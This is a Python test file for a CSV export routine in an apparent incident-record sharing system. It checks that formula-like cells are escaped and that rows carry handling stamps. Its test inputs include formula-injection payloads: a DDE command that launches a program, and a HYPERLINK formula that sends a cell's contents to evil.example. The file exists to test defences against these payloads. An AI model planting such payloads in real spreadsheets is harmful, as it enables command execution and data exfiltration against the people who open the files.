"""Files for spreadsheet programs: no cell is a formula, and every row says whose copy it is."""

import csv
import io

import pytest

from sharing.exports.csv_file import cell, list_file, record_file
from sharing.exports.sheets import Line, Sheet
from sharing.stamp import Stamp

STAMP = Stamp("OFFICIAL-SENSITIVE. Recipients only", "Kate, BTP", "Given to Kate, BTP")

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\u202e=1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "\N{SMALL HYPHEN-MINUS}1",
    "\N{MINUS SIGN}1",
    "\tplain",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Open")',
)
PLAIN = ("", "Robbery", "7QF4-K2", "1 = 1", "a=b", "o'clock", "£480.00", "020 7946 0001", "(=1)", '"=1"')


def sheet(*lines, id_="1"):
    return Sheet(id_, "incident", "Incident: Robbery", "Havering", "HAV-CSP-01", lines)


def line(field, text, done="", label=None, part=""):
    return Line(part, field, label or field, text, done)


def read(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_program_could_take_for_a_formula_is_text(text):
    assert cell(text) == f"'{text}"
    for data in (list_file([sheet(line("note", text))], STAMP), record_file([sheet(line("n", text))], STAMP)):
        (row,) = [row for row in read(data)[1:] if f"'{text}" in row]
        assert text not in row


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", ['say "no"', "a,b;c\td", "two\r\nlines", "', =1"])
def test_quotes_separators_and_lines_stay_inside_of_their_cell(text):
    rows = read(list_file([sheet(line("note", text))], STAMP))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert text in rows[1]


def test_the_file_says_what_alphabet_it_is_in():
    assert list_file([sheet(line("n", "Żak"))], STAMP).startswith(b"\xef\xbb\xbf")


def test_columns_are_those_that_are_shown_or_withheld_and_no_others():
    data = list_file(
        [sheet(line("ward", "Heaton"), id_="1"), sheet(line("phone", "Withheld: why", "Withheld"), id_="2")],
        STAMP,
    )
    head, first, second = read(data)
    assert head == ["Record", "Owner", "ward", "phone", "How shown", "Handling", "Given"]
    assert first[2:5] == ["Heaton", "", ""]
    assert second[2:5] == ["", "Withheld: why", ""]
    assert {row[-1] for row in (first, second)} == {"Given to Kate, BTP, under HAV-CSP-01"}


def test_two_fields_of_one_label_have_two_columns():
    head, row = read(list_file([sheet(line("a", "1", label="When"), line("b", "2", label="When"))], STAMP))
    assert head[2:4] == ["When", "When (b)"]
    assert row[2:4] == ["1", "2"]


def test_what_was_done_to_a_value_stands_beside_the_row():
    _, row = read(list_file([sheet(line("w", "Heaton", "Ward only", label="Address"))], STAMP))
    assert row[3] == "Address: Ward only"
